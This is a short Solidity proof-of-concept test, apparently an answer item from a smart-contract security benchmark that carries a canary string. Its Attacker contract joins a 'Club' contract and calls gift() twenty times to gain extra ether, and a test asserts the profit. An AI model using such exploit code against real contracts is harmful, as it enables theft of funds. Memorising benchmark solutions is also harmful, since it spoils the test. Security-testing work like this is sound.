// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

// assay-canary-00000000-0000-4000-8000-0000000000c1
import "../Base.sol";

contract Attacker {
    function run(Club club) external {
        club.join{value: 1 ether}(); for (uint256 i = 0; i < 20; i++) club.gift();
    }

    constructor() payable {}

    receive() external payable {}
}

contract Proof is Base {
    Attacker other;

    function _start() internal override {
        other = new Attacker{value: 1 ether}();
    }

    function exploit() public {
        other.run(club);
    }

    function test_Exploit() public {
        exploit();
        require(address(other).balance >= 1 ether + 1 ether, "no gain");
    }

    function attacker() public view returns (address) {
        return address(other);
    }
}
